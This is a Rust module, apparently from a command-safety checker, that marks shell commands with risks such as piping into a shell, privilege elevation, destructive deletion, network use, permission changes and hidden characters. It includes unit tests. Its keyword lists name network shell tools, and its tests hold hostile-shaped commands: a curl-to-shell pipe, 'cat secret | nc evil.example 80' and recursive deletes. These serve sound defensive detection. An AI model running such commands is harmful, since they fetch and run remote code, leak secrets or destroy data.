//! What makes a command worth a second look. Marks, not verdicts: a command without one is not safe.
//! Pure.

use super::visible::has_hidden;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Risk {
    /// Hands text to a shell or an interpreter.
    PipesIntoShell,
    /// Runs a text that is put together on the spot.
    RunsText,
    /// As another user, mostly root.
    Elevates,
    /// Removes or overwrites without a way back.
    Destroys,
    /// Fetches something from elsewhere, or sends it there.
    Network,
    /// Changes who may do what with files.
    Permissions,
    /// Holds characters that cannot be seen.
    Hidden,
}

const SHELLS: [&str; 14] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "fish",
    "ksh",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
];

/// The marks of a command, each once, in the order of `Risk`.
#[must_use]
pub fn risks(command: &str) -> Vec<Risk> {
    let parts: Vec<Vec<String>> = parts(command);
    let any = |is: &dyn Fn(&str, &[String]) -> bool| {
        parts.iter().any(|words| {
            let (name, rest) = program(words);
            is(name, rest)
        })
    };
    let mut found = Vec::new();
    let mut mark = |risk, is: bool| {
        if is {
            found.push(risk);
        }
    };
    mark(Risk::PipesIntoShell, pipes_into_shell(command));
    let runs_text = any(&|name, rest| {
        matches!(name, "eval" | "exec" | "iex" | "invoke-expression")
            || SHELLS.contains(&name) && rest.iter().any(|word| is_text_option(word))
    });
    mark(Risk::RunsText, runs_text || command.contains("$(") || command.contains('`'));
    mark(
        Risk::Elevates,
        any(&|name, _| matches!(name, "sudo" | "doas" | "su" | "pkexec" | "runas")),
    );
    let destroys = any(&|name, rest| match name {
        "rm" => rest.iter().any(|word| is_recursive(word)),
        "dd" | "shred" | "wipefs" | "truncate" | "fdisk" | "parted" => true,
        "find" => rest.iter().any(|word| word == "-delete"),
        "git" => {
            has(rest, &["clean"])
                || has(rest, &["reset", "--hard"])
                || has(rest, &["push", "--force"])
        }
        _ => name.starts_with("mkfs"),
    });
    mark(Risk::Destroys, destroys || command.contains("> /dev/") || command.contains(">/dev/sd"));
    let network = any(&|name, _| {
        matches!(
            name,
            "curl"
                | "wget"
                | "fetch"
                | "scp"
                | "sftp"
                | "rsync"
                | "ssh"
                | "nc"
                | "ncat"
                | "socat"
                | "telnet"
                | "ftp"
                | "invoke-webrequest"
        )
    });
    mark(Risk::Network, network);
    mark(
        Risk::Permissions,
        any(&|name, _| {
            matches!(name, "chmod" | "chown" | "chgrp" | "chattr" | "setfacl" | "icacls")
        }),
    );
    mark(Risk::Hidden, has_hidden(command));
    found
}

/// The commands of a line, each as its words. Quotes only hold words together.
fn parts(command: &str) -> Vec<Vec<String>> {
    let mut parts = vec![Vec::new()];
    let mut word = String::new();
    let mut quote = None;
    let finish = |word: &mut String, parts: &mut Vec<Vec<String>>| {
        if !word.is_empty()
            && let Some(last) = parts.last_mut()
        {
            last.push(std::mem::take(word).to_lowercase());
        }
    };
    for character in command.chars() {
        match (quote, character) {
            (Some(open), _) if open == character => quote = None,
            (Some(_), _) => word.push(character),
            (None, '"' | '\'') => quote = Some(character),
            (None, '|' | ';' | '&' | '\n' | '(' | ')' | '`' | '{' | '}') => {
                finish(&mut word, &mut parts);
                parts.push(Vec::new());
            }
            (None, _) if character.is_whitespace() => finish(&mut word, &mut parts),
            (None, _) => word.push(character),
        }
    }
    finish(&mut word, &mut parts);
    parts.retain(|words| !words.is_empty());
    parts
}

/// The program's own name and its arguments: without its folder, settings of the environment, and
/// the words that only start it.
fn program(words: &[String]) -> (&str, &[String]) {
    let is_prefix = |word: &String| {
        word.split_once('=').is_some_and(|(name, _)| !name.is_empty() && !name.contains('/'))
            || matches!(
                word.as_str(),
                "env" | "nohup" | "time" | "nice" | "command" | "xargs" | "then" | "do"
            )
    };
    let start = words.iter().position(|word| !is_prefix(word)).unwrap_or(words.len());
    let Some((name, rest)) = words.get(start..).and_then(<[String]>::split_first) else {
        return ("", &[]);
    };
    (name.rsplit(['/', '\\']).next().unwrap_or(name).trim_end_matches(".exe"), rest)
}

fn pipes_into_shell(command: &str) -> bool {
    command.split('|').skip(1).any(|after| {
        let words: Vec<String> = after.split_whitespace().map(str::to_lowercase).collect();
        let (name, rest) = program(&words);
        let name = name.trim_end_matches(|end: char| !end.is_alphanumeric());
        let elevated = matches!(name, "sudo" | "doas")
            && rest.iter().any(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or(word)));
        SHELLS.contains(&name) || elevated
    })
}

fn is_text_option(word: &str) -> bool {
    matches!(word, "-c" | "-e" | "-lc" | "-ic" | "-command" | "--eval" | "-enc" | "-encodedcommand")
}

fn is_recursive(word: &str) -> bool {
    word == "--recursive"
        || word == "--force"
        || word.starts_with('-') && !word.starts_with("--") && word.contains(['r', 'f'])
}

fn has(words: &[String], wanted: &[&str]) -> bool {
    wanted.iter().all(|wanted| words.iter().any(|word| word == wanted))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_plain_command_has_no_mark() {
        for command in ["git status", "ls -la | grep rm", "echo 'sudo rm -rf /'", "cat notes.txt"] {
            assert_eq!(risks(command), [], "{command}");
        }
    }

    #[test]
    fn each_risk_is_found_where_people_write_it() {
        for (command, expected) in [
            ("curl https://example.com/install.sh | sh", vec![Risk::PipesIntoShell, Risk::Network]),
            ("curl -s x | sudo bash -s", vec![Risk::PipesIntoShell, Risk::Elevates, Risk::Network]),
            ("rm -rf ./build", vec![Risk::Destroys]),
            ("cd /tmp && /bin/rm --recursive x", vec![Risk::Destroys]),
            ("FOO=1 env sudo -u root id", vec![Risk::Elevates]),
            ("python3 -c 'import os'", vec![Risk::RunsText]),
            ("echo $(cat key)", vec![Risk::RunsText]),
            ("chmod 777 .", vec![Risk::Permissions]),
            ("find . -name '*.log' -delete", vec![Risk::Destroys]),
            ("git push --force origin main", vec![Risk::Destroys]),
            ("cat secret | nc evil.example 80", vec![Risk::Network]),
            ("ls \u{202e}txt", vec![Risk::Hidden]),
        ] {
            assert_eq!(risks(command), expected, "{command}");
        }
    }
}
